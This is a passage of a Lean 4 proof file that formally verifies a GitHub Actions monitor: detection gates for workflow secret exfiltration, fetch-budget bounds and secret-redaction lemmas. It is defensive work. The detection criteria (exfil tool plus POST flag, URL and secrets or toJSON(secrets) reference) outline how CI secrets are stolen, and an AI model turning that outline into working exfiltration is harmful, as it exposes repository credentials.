/-- C6: Personalized-exfiltration gate and confidence ladder: an incident
for a changed workflow file is emitted only when the event has both
`before` and `after` SHAs and the file at head contains an exfil tool, a
POST flag, at least one URL and a secrets reference (or
`toJSON(secrets)`); its confidence is high on an IOC domain or the IOC
workflow name, else medium on a non-empty overlap with the known secrets
collected at the base ref or a base64/`toJSON(secrets)` hint, else low. -/
theorem personalized_exfiltration_gate (f : Forge) (ev : GEvent) (st : St)
    (inc : PersIncident)
    (hmem : inc ∈ (detect_personalized_exfiltration f ev st).1) :
    ev.type = "PushEvent" ∧
    ∃ (head base : String),
      strTruthy ev.after = some head ∧ strTruthy ev.before = some base ∧
      inc.ev_sha = head ∧
      ∃ (known : List String) (t : String),
        known = (collect_known_secrets f inc.repo_full_name base
          (persResolvePaths f inc.repo_full_name ev st).2).1 ∧
        f.contents inc.repo_full_name inc.ev_workflow_path head = some t ∧
        t ≠ "" ∧
        exfilToolSearch t.data = true ∧ postFlagSearch t.data = true ∧
        urlFindAll t.data ≠ [] ∧
        (secretSearch t.data || toJsonSecretsSearch t.data) = true ∧
        inc.ev_overlap_count = (persOverlap t.data known).length ∧
        inc.conclusion = inc.ev_confidence ∧
        inc.ev_confidence =
          (if (!((external_domains (urlFindAll t.data)).filter
                isIocDomain).isEmpty ||
              containsSub iocWorkflowName.data t.data) then "high"
           else if (!(persOverlap t.data known).isEmpty ||
              (base64Search t.data || toJsonSecretsSearch t.data)) then
             "medium"
           else "low") := by
  rcases detect_pers_inv f ev st inc hmem with
    ⟨htype, o, n, full, head, base, st', path, hsplit, hafter, hbefore, hpath,
      hsome⟩
  rcases persProcessPath_inv _ _ _ _ _ _ _ _ _ hsome with
    ⟨t, hco, ht, hg1, hg2, hg3, hg4, _, _, hdk, hfull, hsha, hwp, hov, hcc,
      hladder⟩
  refine ⟨htype, head, base, hafter, hbefore, hsha,
    (collect_known_secrets f full base (persResolvePaths f full ev st).2).1,
    t, ?_, ?_, ht, hg1, hg2, hg3, hg4, hov, hcc, ?_⟩
  · rw [hfull]
  · rw [hfull, hwp]
    exact hco
  · rw [hladder, persConfidence_eq]

/-- Witness for C6: the S4 scenario's single emitted incident, with its
high-confidence ladder, via the gate theorem at a concrete store. -/
theorem personalized_exfiltration_gate_witness :
    s4event.type = "PushEvent" ∧
    ∃ (head base : String),
      strTruthy s4event.after = some head ∧
      strTruthy s4event.before = some base ∧
      s4incs.headI.ev_sha = head ∧
      ∃ (known : List String) (t : String),
        known = (collect_known_secrets s4forge s4incs.headI.repo_full_name base
          (persResolvePaths s4forge s4incs.headI.repo_full_name s4event
            s4st).2).1 ∧
        s4forge.contents s4incs.headI.repo_full_name
          s4incs.headI.ev_workflow_path head = some t ∧
        t ≠ "" ∧
        exfilToolSearch t.data = true ∧ postFlagSearch t.data = true ∧
        urlFindAll t.data ≠ [] ∧
        (secretSearch t.data || toJsonSecretsSearch t.data) = true ∧
        s4incs.headI.ev_overlap_count = (persOverlap t.data known).length ∧
        s4incs.headI.conclusion = s4incs.headI.ev_confidence ∧
        s4incs.headI.ev_confidence =
          (if (!((external_domains (urlFindAll t.data)).filter
                isIocDomain).isEmpty ||
              containsSub iocWorkflowName.data t.data) then "high"
           else if (!(persOverlap t.data known).isEmpty ||
              (base64Search t.data || toJsonSecretsSearch t.data)) then
             "medium"
           else "low") :=
  personalized_exfiltration_gate s4forge s4event s4st s4incs.headI (by
    have h : s4incs = [s4incs.headI] := by decide
    rw [h]
    exact List.mem_singleton_self _)

/-! ### Budget accounting lemmas -/

theorem takeSeq_count (r : Int) (k : Nat) :
    ((takeSeq r k).count true) ≤ r.toNat := by
  induction k generalizing r with
  | zero => simp [takeSeq]
  | succ k ih =>
    by_cases hr : r ≤ 0
    · have hstep : takeSeq r (k + 1) = false :: takeSeq r k := by
        simp [takeSeq, budgetTake, hr]
      rw [hstep, List.count_cons]
      simpa using ih r
    · have hstep : takeSeq r (k + 1) = true :: takeSeq (r - 1) k := by
        simp [takeSeq, budgetTake, hr]
      rw [hstep, List.count_cons]
      have hih := ih (r - 1)
      have hto : (r - 1).toNat + 1 = r.toNat := by omega
      simp only [beq_self_eq_true, if_true]
      omega

theorem stLe_refl (st : St) : StLe st st := ⟨Nat.le_refl _, Nat.le_refl _⟩

theorem stLe_trans {a b c : St} (h1 : StLe b a) (h2 : StLe c b) : StLe c a :=
  ⟨Nat.le_trans h1.1 h2.1, Nat.le_trans h2.2 h1.2⟩

theorem get_commit_files_stLe (f : Forge) (repo sha : String) (st : St) :
    StLe (get_commit_files f repo sha st).2 st := by
  by_cases hb : st.budget ≤ 0 <;>
    simp [StLe, get_commit_files, stTake, budgetTake, hb] <;>
    omega

theorem get_workflow_text_stLe (f : Forge) (repo path sha : String) (st : St) :
    StLe (get_workflow_text f repo path sha st).2 st := by
  by_cases hb : st.budget ≤ 0 <;>
    simp [StLe, get_workflow_text, stTake, budgetTake, hb] <;>
    omega

theorem list_workflow_files_stLe (f : Forge) (repo ref : String) (st : St) :
    StLe (list_workflow_files f repo ref st).2 st := by
  rcases hw : f.workflow_dir repo ref with _ | items <;>
    by_cases hb : st.budget ≤ 0 <;>
      simp [StLe, list_workflow_files, stTake, budgetTake, hb, hw] <;>
      omega

theorem fetch_actor_context_stLe (f : Forge) (repo login : String) (st : St) :
    StLe (fetch_actor_context f repo login st).2 st := by
  by_cases hl : login = ""
  · simp [StLe, fetch_actor_context, hl]
  · rcases hu : f.user login with _ | utype <;>
      by_cases hb : st.budget ≤ 0 <;>
        by_cases hb2 : st.budget - 1 ≤ 0 <;>
          simp [StLe, fetch_actor_context, stTake, budgetTake, hl, hu, hb, hb2] <;>
          omega

theorem collectSecretsLoop_stLe (f : Forge) (repo ref : String)
    (paths : List String) : ∀ (st : St) (acc : List (List Char)),
    StLe (collectSecretsLoop f repo ref paths st acc).2 st := by
  induction paths with
  | nil => intro st acc; exact stLe_refl st
  | cons p rest ih =>
    intro st acc
    have hgw := get_workflow_text_stLe f repo p ref st
    rcases hr : (get_workflow_text f repo p ref st).1 with _ | t
    · simp only [collectSecretsLoop, hr]
      exact stLe_trans hgw (ih _ _)
    · by_cases hte : t = ""
      · simp only [collectSecretsLoop, hr, hte, if_true]
        exact stLe_trans hgw (ih _ _)
      · simp only [collectSecretsLoop, hr, hte, if_false]
        exact stLe_trans hgw (ih _ _)

theorem collect_known_secrets_stLe (f : Forge) (repo ref : String) (st : St) :
    StLe (collect_known_secrets f repo ref st).2 st := by
  unfold collect_known_secrets
  exact stLe_trans (list_workflow_files_stLe f repo ref st)
    (collectSecretsLoop_stLe f repo ref _ _ [])

theorem ghostTextsLoop_stLe (f : Forge) (full : String)
    (paths : List (String × String)) : ∀ (st : St) (acc : List String),
    StLe (ghostTextsLoop f full paths st acc).2 st := by
  induction paths with
  | nil => intro st acc; exact stLe_refl st
  | cons sp rest ih =>
    intro st acc
    rcases sp with ⟨sha, p⟩
    have hgw := get_workflow_text_stLe f full p sha st
    rcases hr : (get_workflow_text f full p sha st).1 with _ | t
    · simp only [ghostTextsLoop, hr]
      exact stLe_trans hgw (ih _ _)
    · by_cases hte : t = ""
      · simp only [ghostTextsLoop, hr, hte, if_true]
        exact stLe_trans hgw (ih _ _)
      · simp only [ghostTextsLoop, hr, hte, if_false]
        exact stLe_trans hgw (ih _ _)

theorem ghostResolvePaths_stLe (f : Forge) (full : String) (ev : GEvent)
    (st : St) : StLe (ghostResolvePaths f full ev st).2 st := by
  unfold ghostResolvePaths
  by_cases hp : (ghostPayloadPaths ev).isEmpty
  · simp only [hp, if_true]
    rcases strTruthy ev.head with _ | head
    · exact stLe_refl st
    · have hcf := get_commit_files_stLe f full head st
      rcases hr : (get_commit_files f full head st).1 with _ | files
      · simpa [hr] using hcf
      · by_cases hf : files.isEmpty
        · simpa [hr, hf] using hcf
        · have hff : files.isEmpty = false := Bool.eq_false_iff.mpr hf
          simpa [hr, hff] using hcf
  · have hpf : (ghostPayloadPaths ev).isEmpty = false := Bool.eq_false_iff.mpr hp
    simp only [hpf, Bool.false_eq_true, if_false]
    exact stLe_refl st

theorem detect_ghost_stLe (f : Forge) (ev : GEvent) (thr : Nat) (st : St) :
    StLe (detect_ghostaction_risk f ev thr st).2 st := by
  unfold detect_ghostaction_risk
  by_cases h1 : ev.type ≠ "PushEvent"
  · rw [if_pos h1]
    exact stLe_refl st
  · rw [if_neg h1]
    rcases repoSplit ev with _ | ⟨o, n, full⟩
    · exact stLe_refl st
    · have hrp := ghostResolvePaths_stLe f full ev st
      by_cases h2 : (ghostResolvePaths f full ev st).1.isEmpty
      · simpa [h2] using hrp
      · have h2f : (ghostResolvePaths f full ev st).1.isEmpty = false :=
          Bool.eq_false_iff.mpr h2
        simp only [h2f, Bool.false_eq_true, if_false]
        have htl := ghostTextsLoop_stLe f full (ghostResolvePaths f full ev st).1
          (ghostResolvePaths f full ev st).2 []
        rcases ghostEmitDecision
            (ghostTextsLoop f full (ghostResolvePaths f full ev st).1
              (ghostResolvePaths f full ev st).2 []).1 thr with _ | sev
        · exact stLe_trans hrp htl
        · rcases strTruthy ev.actor_login with _ | login
          · exact stLe_trans hrp htl
          · exact stLe_trans (stLe_trans hrp htl)
              (fetch_actor_context_stLe f full login _)

theorem persResolvePaths_stLe (f : Forge) (full : String) (ev : GEvent)
    (st : St) : StLe (persResolvePaths f full ev st).2 st := by
  unfold persResolvePaths
  by_cases hp : (persPayloadPaths ev).isEmpty
  · simp only [hp, if_true]
    rcases strTruthy ev.after with _ | head
    · exact stLe_refl st
    · have hcf := get_commit_files_stLe f full head st
      rcases hr : (get_commit_files f full head st).1 with _ | files
      · simpa [hr] using hcf
      · by_cases hf : files.isEmpty
        · simpa [hr, hf] using hcf
        · have hff : files.isEmpty = false := Bool.eq_false_iff.mpr hf
          simpa [hr, hff] using hcf
  · have hpf : (persPayloadPaths ev).isEmpty = false := Bool.eq_false_iff.mpr hp
    simp only [hpf, Bool.false_eq_true, if_false]
    exact stLe_refl st

theorem persProcessPath_stLe (f : Forge) (full head : String)
    (a ca : Option String) (known : List String) (path : String) (st : St) :
    StLe (persProcessPath f full head a ca known path st).2 st := by
  have hgw := get_workflow_text_stLe f full path head st
  rcases hr : get_workflow_text f full path head st with ⟨res, st2⟩
  rw [hr] at hgw
  rcases res with _ | t
  · simpa [persProcessPath, hr] using hgw
  · by_cases hte : t = ""
    · simpa [persProcessPath, hr, hte] using hgw
    · by_cases hX : (!(exfilToolSearch t.data && postFlagSearch t.data &&
          !(urlFindAll t.data).isEmpty &&
          (secretSearch t.data || toJsonSecretsSearch t.data))) = true
      · simpa [persProcessPath, hr, hte, hX] using hgw
      · have hXf : (!(exfilToolSearch t.data && postFlagSearch t.data &&
            !(urlFindAll t.data).isEmpty &&
            (secretSearch t.data || toJsonSecretsSearch t.data))) = false :=
          Bool.eq_false_iff.mpr hX
        simpa [persProcessPath, hr, hte, hXf] using hgw

theorem persLoop_stLe (f : Forge) (full head : String) (a ca : Option String)
    (known : List String) (paths : List String) :
    ∀ (st : St) (acc : List PersIncident),
    StLe (persLoop f full head a ca known paths st acc).2 st := by
  induction paths with
  | nil => intro st acc; exact stLe_refl st
  | cons p rest ih =>
    intro st acc
    have hpp := persProcessPath_stLe f full head a ca known p st
    rcases hr : (persProcessPath f full head a ca known p st).1 with _ | i
    · simp only [persLoop, hr]
      exact stLe_trans hpp (ih _ _)
    · simp only [persLoop, hr]
      exact stLe_trans hpp (ih _ _)

theorem detect_pers_stLe (f : Forge) (ev : GEvent) (st : St) :
    StLe (detect_personalized_exfiltration f ev st).2 st := by
  unfold detect_personalized_exfiltration
  by_cases h1 : ev.type ≠ "PushEvent"
  · rw [if_pos h1]
    exact stLe_refl st
  · rw [if_neg h1]
    rcases repoSplit ev with _ | ⟨o, n, full⟩
    · exact stLe_refl st
    · have hrp := persResolvePaths_stLe f full ev st
      by_cases h2 : (persResolvePaths f full ev st).1.isEmpty
      · simpa [h2] using hrp
      · have h2f : (persResolvePaths f full ev st).1.isEmpty = false :=
          Bool.eq_false_iff.mpr h2
        simp only [h2f, Bool.false_eq_true, if_false]
        rcases strTruthy ev.after with _ | head
        · exact hrp
        · rcases strTruthy ev.before with _ | base
          · exact hrp
          · exact stLe_trans (stLe_trans hrp
              (collect_known_secrets_stLe f full base _))
              (persLoop_stLe f full head ev.actor_login ev.created_at _ _ _ [])

theorem pollCycle_stLe (f : Forge) (thr : Nat) (evs : List GEvent) :
    ∀ st : St, StLe (pollCycle f thr evs st) st := by
  induction evs with
  | nil => intro st; exact stLe_refl st
  | cons ev rest ih =>
    intro st
    have h1 := detect_ghost_stLe f ev thr st
    have h2 := detect_pers_stLe f ev (detect_ghostaction_risk f ev thr st).2
    have hstep : StLe (pollEventDetectors f thr ev st) st :=
      stLe_trans h1 h2
    simpa [pollCycle] using stLe_trans hstep (ih (pollEventDetectors f thr ev st))

theorem ghostResolvePaths_exhausted (f : Forge) (full : String) (ev : GEvent)
    (st : St) (hb : st.budget ≤ 0) (hp : ghostPayloadPaths ev = []) :
    (ghostResolvePaths f full ev st).1 = [] := by
  unfold ghostResolvePaths
  rw [hp]
  simp only [List.isEmpty_nil, if_true]
  rcases strTruthy ev.head with _ | head
  · rfl
  · simp [get_commit_files, stTake, budgetTake, hb]

theorem persResolvePaths_exhausted (f : Forge) (full : String) (ev : GEvent)
    (st : St) (hb : st.budget ≤ 0) (hp : persPayloadPaths ev = []) :
    (persResolvePaths f full ev st).1 = [] := by
  unfold persResolvePaths
  rw [hp]
  simp only [List.isEmpty_nil, if_true]
  rcases strTruthy ev.after with _ | head
  · rfl
  · simp [get_commit_files, stTake, budgetTake, hb]

/-- C9: Fetch-budget bound: a budget of `N` yields at most `N` successful
`take()`s; every budget-guarded helper is a no-op returning its failure
value when `take()` fails, issuing no Forge call; one full poll cycle over
any event list issues at most the initial remaining budget of
budget-guarded Forge calls; and with an exhausted budget and no in-payload
workflow paths neither detector emits an incident. -/
theorem fetch_budget_bound :
    (∀ (r : Int) (k : Nat), ((takeSeq r k).count true) ≤ r.toNat) ∧
    (∀ (f : Forge) (repo sha path ref login : String) (st : St),
      (budgetTake st.budget).1 = false →
      get_commit_files f repo sha st = (none, st) ∧
      get_workflow_text f repo path ref st = (none, st) ∧
      list_workflow_files f repo ref st = ([], st) ∧
      (login ≠ "" → fetch_actor_context f repo login st = (none, st))) ∧
    (∀ (f : Forge) (thr : Nat) (evs : List GEvent) (st : St),
      (pollCycle f thr evs st).calls - st.calls ≤ st.budget.toNat) ∧
    (∀ (f : Forge) (ev : GEvent) (thr : Nat) (st : St),
      st.budget ≤ 0 → ghostPayloadPaths ev = [] →
      (detect_ghostaction_risk f ev thr st).1 = []) ∧
    (∀ (f : Forge) (ev : GEvent) (st : St),
      st.budget ≤ 0 → persPayloadPaths ev = [] →
      (detect_personalized_exfiltration f ev st).1 = []) := by
  refine ⟨takeSeq_count, ?_, ?_, ?_, ?_⟩
  · intro f repo sha path ref login st hfail
    have hb : st.budget ≤ 0 := by
      by_contra hc
      simp [budgetTake, hc] at hfail
    refine ⟨?_, ?_, ?_, ?_⟩
    · simp [get_commit_files, stTake, budgetTake, hb]
    · simp [get_workflow_text, stTake, budgetTake, hb]
    · simp [list_workflow_files, stTake, budgetTake, hb]
    · intro hl
      simp [fetch_actor_context, stTake, budgetTake, hb, hl]
  · intro f thr evs st
    have h := pollCycle_stLe f thr evs st
    rcases h with ⟨h1, h2⟩
    omega
  · intro f ev thr st hb hp
    unfold detect_ghostaction_risk
    by_cases h1 : ev.type ≠ "PushEvent"
    · rw [if_pos h1]
    · rw [if_neg h1]
      rcases repoSplit ev with _ | ⟨o, n, full⟩
      · rfl
      · have hrp := ghostResolvePaths_exhausted f full ev st hb hp
        simp [hrp]
  · intro f ev st hb hp
    unfold detect_personalized_exfiltration
    by_cases h1 : ev.type ≠ "PushEvent"
    · rw [if_pos h1]
    · rw [if_neg h1]
      rcases repoSplit ev with _ | ⟨o, n, full⟩
      · rfl
      · have hrp := persResolvePaths_exhausted f full ev st hb hp
        simp [hrp]

/-- Witness for C9: a concrete three-take sequence on budget 2 yields two
successes, and the S2 event with an exhausted budget and an empty payload
emits nothing. -/
theorem fetch_budget_bound_witness :
    ((takeSeq 2 3).count true) ≤ (2 : Int).toNat ∧
    (detect_ghostaction_risk s2forge s2event 60 { budget := 0, calls := 0 }).1 =
      [] :=
  ⟨fetch_budget_bound.1 2 3,
   fetch_budget_bound.2.2.2.1 s2forge s2event 60 { budget := 0, calls := 0 }
     (by decide) (by decide)⟩
/-! ## Redaction lemmas -/

theorem secretsDot_eq : "secrets.".data = ['s','e','c','r','e','t','s','.'] := rfl

theorem redactedRef_eq :
    redactedRef = ['s','e','c','r','e','t','s','.','R','E','D','A','C','T','E','D'] := rfl

theorem take_eq_of_append_eq {a b X Y : List Char} (m : Nat)
    (h : a ++ X = b ++ Y) (ha : m ≤ a.length) (hb : m ≤ b.length) :
    a.take m = b.take m := by
  have h' := congrArg (List.take m) h
  rw [List.take_append_eq_append_take, List.take_append_eq_append_take,
    Nat.sub_eq_zero_of_le ha, Nat.sub_eq_zero_of_le hb] at h'
  simpa using h'

theorem takeWhile_append_of_all {p : Char → Bool} :
    ∀ (l r : List Char), (∀ c ∈ l, p c = true) →
      (∀ c, r.head? = some c → p c = false) →
      (l ++ r).takeWhile p = l
  | [], r, _, hr => by
    cases r with
    | nil => rfl
    | cons a r' =>
      simp [List.takeWhile_cons, hr a rfl]
  | a :: l', r, hl, hr => by
    have ha : p a = true := hl a (List.mem_cons_self a l')
    rw [List.cons_append, List.takeWhile_cons, if_pos ha,
      takeWhile_append_of_all l' r (fun c hc => hl c (List.mem_cons_of_mem a hc)) hr]

theorem drop_takeWhile_length (p : Char → Bool) :
    ∀ l : List Char, l.drop (l.takeWhile p).length = l.dropWhile p
  | [] => rfl
  | a :: l => by
    rw [List.takeWhile_cons, List.dropWhile_cons]
    by_cases h : p a = true
    · rw [if_pos h, if_pos h, List.length_cons, List.drop_succ_cons,
        drop_takeWhile_length p l]
    · rw [if_neg h, if_neg h, List.length_nil, List.drop_zero]

theorem nil_noleak_decomp {u w rest : List Char}
    (heq : ([] : List Char) = u ++ "secrets.".data ++ w ++ rest) : False := by
  rcases u with _ | ⟨c, u'⟩
  · rw [List.nil_append, secretsDot_eq] at heq
    simp only [List.cons_append] at heq
    exact List.noConfusion heq
  · simp only [List.cons_append] at heq
    exact List.noConfusion heq

theorem NoSecretLeak_nil : NoSecretLeak ([] : List Char) := by
  intro u w rest heq hwne hwall hbound
  exact absurd heq (fun h => nil_noleak_decomp h)

theorem subSecretAux_zero (l : List Char) : subSecretAux 0 l = l := by
  cases l <;> rfl

theorem subSecretAux_head? (fuel : Nat) (l : List Char) (c : Char)
    (h : (subSecretAux fuel l).head? = some c) : c = 's' ∨ l.head? = some c := by
  cases fuel with
  | zero => rw [subSecretAux_zero] at h; exact Or.inr h
  | succ fuel =>
    cases l with
    | nil => exact Or.inr h
    | cons a cs =>
      by_cases hg : (List.isPrefixOf "secrets.".data (a :: cs) &&
          !(((a :: cs).drop 8).takeWhile isSecretNameChar).isEmpty) = true
      · left
        simp only [subSecretAux] at h
        rw [if_pos hg, redactedRef_eq] at h
        simp only [List.cons_append, List.head?_cons, Option.some.injEq] at h
        exact h.symm
      · right
        simp only [subSecretAux] at h
        rw [if_neg hg, List.head?_cons] at h
        rw [List.head?_cons]
        exact h

theorem suffix_pattern_cases (p : List Char) (n : Char) (hne : p ≠ [])
    (hsuf : p <:+ ('e':: 'c':: 'r':: 'e':: 't':: 's':: '.'::[n])) :
    p = 'e':: 'c':: 'r':: 'e':: 't':: 's':: '.'::[n] ∨ p = 'c':: 'r':: 'e':: 't':: 's':: '.'::[n] ∨
    p = 'r':: 'e':: 't':: 's':: '.'::[n] ∨ p = 'e':: 't':: 's':: '.'::[n] ∨
    p = 't':: 's':: '.'::[n] ∨ p = 's':: '.'::[n] ∨ p = '.'::[n] ∨ p = [n] := by
  rcases List.suffix_cons_iff.mp hsuf with h | hsuf
  · exact Or.inl h
  rcases List.suffix_cons_iff.mp hsuf with h | hsuf
  · exact Or.inr (Or.inl h)
  rcases List.suffix_cons_iff.mp hsuf with h | hsuf
  · exact Or.inr (Or.inr (Or.inl h))
  rcases List.suffix_cons_iff.mp hsuf with h | hsuf
  · exact Or.inr (Or.inr (Or.inr (Or.inl h)))
  rcases List.suffix_cons_iff.mp hsuf with h | hsuf
  · exact Or.inr (Or.inr (Or.inr (Or.inr (Or.inl h))))
  rcases List.suffix_cons_iff.mp hsuf with h | hsuf
  · exact Or.inr (Or.inr (Or.inr (Or.inr (Or.inr (Or.inl h)))))
  rcases List.suffix_cons_iff.mp hsuf with h | hsuf
  · exact Or.inr (Or.inr (Or.inr (Or.inr (Or.inr (Or.inr (Or.inl h))))))
  rcases List.suffix_cons_iff.mp hsuf with h | hsuf
  · exact Or.inr (Or.inr (Or.inr (Or.inr (Or.inr (Or.inr (Or.inr h))))))
  · exact absurd (List.suffix_nil.mp hsuf) hne

theorem not_pattern_prefix_red (n : Char) (hn : isSecretNameChar n = true)
    (p : List Char) (hne : p ≠ [])
    (hsuf : p <:+ ('e':: 'c':: 'r':: 'e':: 't':: 's':: '.'::[n]))
    (X : List Char) (hpre : p <+: redactedRef ++ X) : False := by
  rcases suffix_pattern_cases p n hne hsuf with rfl|rfl|rfl|rfl|rfl|rfl|rfl|rfl <;>
    simp only [redactedRef_eq, List.cons_append, List.cons_prefix_cons] at hpre
  · exact absurd hpre.1 (by decide)
  · exact absurd hpre.1 (by decide)
  · exact absurd hpre.1 (by decide)
  · exact absurd hpre.1 (by decide)
  · exact absurd hpre.1 (by decide)
  · exact absurd hpre.2.1 (by decide)
  · exact absurd hpre.1 (by decide)
  · exact absurd (hpre.1 ▸ hn) (by decide)

theorem subSecretAux_pattern_prefix (n : Char) (hn : isSecretNameChar n = true) :
    ∀ (cs : List Char) (fuel : Nat) (p : List Char), p ≠ [] →
      p <:+ ('e':: 'c':: 'r':: 'e':: 't':: 's':: '.'::[n]) →
      p <+: subSecretAux fuel cs → p <+: cs := by
  intro cs
  induction cs with
  | nil =>
    intro fuel p hne hsuf hpre
    cases fuel with
    | zero => exact hpre
    | succ fuel => exact hpre
  | cons a cs' ih =>
    intro fuel p hne hsuf hpre
    cases fuel with
    | zero => exact hpre
    | succ fuel =>
      by_cases hg : (List.isPrefixOf "secrets.".data (a :: cs') &&
          !(((a :: cs').drop 8).takeWhile isSecretNameChar).isEmpty) = true
      · simp only [subSecretAux] at hpre
        rw [if_pos hg] at hpre
        exact absurd hpre (fun h => not_pattern_prefix_red n hn p hne hsuf _ h)
      · simp only [subSecretAux] at hpre
        rw [if_neg hg] at hpre
        rcases p with _ | ⟨p₀, p'⟩
        · exact absurd rfl hne
        rw [List.cons_prefix_cons] at hpre
        obtain ⟨rfl, hp'⟩ := hpre
        rcases p' with _ | ⟨q, p''⟩
        · exact List.cons_prefix_cons.mpr ⟨rfl, List.nil_prefix⟩
        · have hsuf' : (q :: p'') <:+ ('e':: 'c':: 'r':: 'e':: 't':: 's':: '.'::[n]) :=
            List.IsSuffix.trans ⟨[p₀], rfl⟩ hsuf
          exact List.cons_prefix_cons.mpr
            ⟨rfl, ih fuel (q :: p'') (by simp) hsuf' hp'⟩

theorem head_not_name_of_bound {rest : List Char}
    (hbound : rest = [] ∨ ∃ c cs, rest = c :: cs ∧ isSecretNameChar c = false) :
    ∀ c, rest.head? = some c → isSecretNameChar c = false := by
  rcases hbound with rfl | ⟨c0, cs0, rfl, hc0⟩
  · intro c h; cases h
  · intro c h
    rw [List.head?_cons] at h
    injection h with h
    rw [← h]; exact hc0

theorem subSecretAux_noleak :
    ∀ (fuel : Nat) (l : List Char), l.length ≤ fuel →
      NoSecretLeak (subSecretAux fuel l) := by
  intro fuel
  induction fuel with
  | zero =>
    intro l hl
    have hnil : l = [] := List.eq_nil_of_length_eq_zero (Nat.le_zero.mp hl)
    subst hnil
    exact NoSecretLeak_nil
  | succ fuel ih =>
    intro l hl
    rcases l with _ | ⟨a, cs⟩
    · exact NoSecretLeak_nil
    by_cases hg : (List.isPrefixOf "secrets.".data (a :: cs) &&
        !(((a :: cs).drop 8).takeWhile isSecretNameChar).isEmpty) = true
    case neg =>
      have hout : subSecretAux (fuel + 1) (a :: cs) = a :: subSecretAux fuel cs := by
        simp only [subSecretAux]
        rw [if_neg hg]
      have hcs : cs.length ≤ fuel := by
        rw [List.length_cons] at hl; omega
      rw [hout]
      intro u w rest heq hwne hwall hbound
      rcases u with _ | ⟨u₀, u'⟩
      · -- the output would begin with "secrets." itself: impossible in the
        -- emit branch, since the pattern prefix would transfer back to the
        -- input and force the match branch.
        rw [List.nil_append, secretsDot_eq] at heq
        simp only [List.cons_append, List.nil_append] at heq
        injection heq with ha htail
        rcases w with _ | ⟨n, w'⟩
        · exact absurd rfl hwne
        have hn : isSecretNameChar n = true := hwall n (List.mem_cons_self n w')
        have hpre : ('e':: 'c':: 'r':: 'e':: 't':: 's':: '.'::[n]) <+: subSecretAux fuel cs := by
          refine ⟨w' ++ rest, ?_⟩
          rw [htail]
          simp [List.cons_append]
        obtain ⟨z, hz⟩ := subSecretAux_pattern_prefix n hn cs fuel _ (by simp)
          List.suffix_rfl hpre
        exfalso
        have h1 : List.isPrefixOf "secrets.".data (a :: cs) = true := by
          rw [ha, ← hz]
          rfl
        have h2 : ((a :: cs).drop 8).takeWhile isSecretNameChar
            = n :: z.takeWhile isSecretNameChar := by
          rw [ha, ← hz]
          show (n :: z).takeWhile isSecretNameChar = n :: z.takeWhile isSecretNameChar
          rw [List.takeWhile_cons, if_pos hn]
        rw [h1, h2] at hg
        simp at hg
      · simp only [List.cons_append] at heq
        injection heq with ha htail
        exact ih cs hcs u' w rest htail hwne hwall hbound
    case pos =>
      have hand := hg
      simp only [Bool.and_eq_true] at hand
      have hpre8 : List.isPrefixOf "secrets.".data (a :: cs) = true := hand.1
      have hname : (((a :: cs).drop 8).takeWhile isSecretNameChar).isEmpty = false := by
        have h2 := hand.2
        cases h : (((a :: cs).drop 8).takeWhile isSecretNameChar).isEmpty
        · rfl
        · rw [h] at h2; simp at h2
      obtain ⟨rest8, hr8⟩ : ∃ t, (a :: cs) = "secrets.".data ++ t := by
        obtain ⟨t, ht⟩ := List.isPrefixOf_iff_prefix.mp hpre8
        exact ⟨t, ht.symm⟩
      have hd8 : (a :: cs).drop 8 = rest8 := by
        rw [hr8]
        exact List.drop_left' (by rfl)
      have hdrop : (a :: cs).drop
            (8 + (((a :: cs).drop 8).takeWhile isSecretNameChar).length)
          = rest8.dropWhile isSecretNameChar := by
        rw [hd8, hr8]
        rw [show (8 : Nat) + (rest8.takeWhile isSecretNameChar).length
            = ("secrets.".data).length + (rest8.takeWhile isSecretNameChar).length
          from rfl]
        rw [List.drop_append, drop_takeWhile_length]
      have hout : subSecretAux (fuel + 1) (a :: cs)
          = redactedRef ++ subSecretAux fuel (rest8.dropWhile isSecretNameChar) := by
        simp only [subSecretAux]
        rw [if_pos hg, hdrop]
      have hlen' : (rest8.dropWhile isSecretNameChar).length ≤ fuel := by
        have e1 := congrArg List.length hr8
        rw [secretsDot_eq] at e1
        simp [List.length_append] at e1
        have e2 : (rest8.dropWhile isSecretNameChar).length
            = rest8.length - (rest8.takeWhile isSecretNameChar).length := by
          rw [← drop_takeWhile_length isSecretNameChar rest8, List.length_drop]
        have e3 : (rest8.takeWhile isSecretNameChar).length ≠ 0 := by
          intro h0
          rw [hd8] at hname
          rw [List.length_eq_zero] at h0
          rw [h0] at hname
          simp at hname
        rw [List.length_cons] at hl
        omega
      have hout_head : ∀ c', (subSecretAux fuel (rest8.dropWhile isSecretNameChar)).head?
          = some c' → isSecretNameChar c' = false := by
        intro c' hc'
        rcases subSecretAux_head? fuel _ c' hc' with rfl | hh
        · rfl
        · have hnot := List.head?_dropWhile_not isSecretNameChar rest8
          rw [hh] at hnot
          exact hnot
      rw [hout]
      intro u w rest heq hwne hwall hbound
      by_cases hu16 : 16 ≤ u.length
      · have hsplit : u = u.take 16 ++ u.drop 16 := (List.take_append_drop 16 u).symm
        rw [hsplit] at heq
        simp only [List.append_assoc] at heq
        have hlen16 : redactedRef.length = (u.take 16).length := by
          rw [List.length_take]
          have h16 : redactedRef.length = 16 := rfl
          omega
        obtain ⟨hBu, hout'⟩ := List.append_inj heq hlen16
        refine ih _ hlen' (u.drop 16) w rest ?_ hwne hwall hbound
        rw [hout']
        simp [List.append_assoc]
      · by_cases hu0 : u = []
        · subst hu0
          simp only [List.nil_append] at heq
          rw [show redactedRef = "secrets.".data ++ "REDACTED".data from rfl] at heq
          simp only [List.append_assoc] at heq
          have hcanc := List.append_cancel_left heq
          have h1 : (w ++ rest).takeWhile isSecretNameChar = w :=
            takeWhile_append_of_all w rest hwall (head_not_name_of_bound hbound)
          have h2 : ("REDACTED".data ++ subSecretAux fuel
                (rest8.dropWhile isSecretNameChar)).takeWhile isSecretNameChar
              = "REDACTED".data :=
            takeWhile_append_of_all _ _ (by decide) hout_head
          rw [← hcanc, h2] at h1
          exact h1.symm
        · obtain ⟨k, hk⟩ : ∃ k, u.length = k := ⟨_, rfl⟩
          have hk1 : 1 ≤ k := by
            rw [← hk]
            exact List.length_pos.mpr hu0
          have hk2 : k < 16 := by
            rw [← hk]
            omega
          simp only [List.append_assoc] at heq
          have hd := congrArg (List.drop k) heq
          rw [List.drop_append_eq_append_drop] at hd
          rw [Nat.sub_eq_zero_of_le
              (by have h16 : redactedRef.length = 16 := rfl; omega),
            List.drop_zero, List.drop_left' hk] at hd
          have hS := hd.symm
          interval_cases k <;>
            first
            | exact absurd (take_eq_of_append_eq 2 hS (by decide) (by decide)) (by decide)
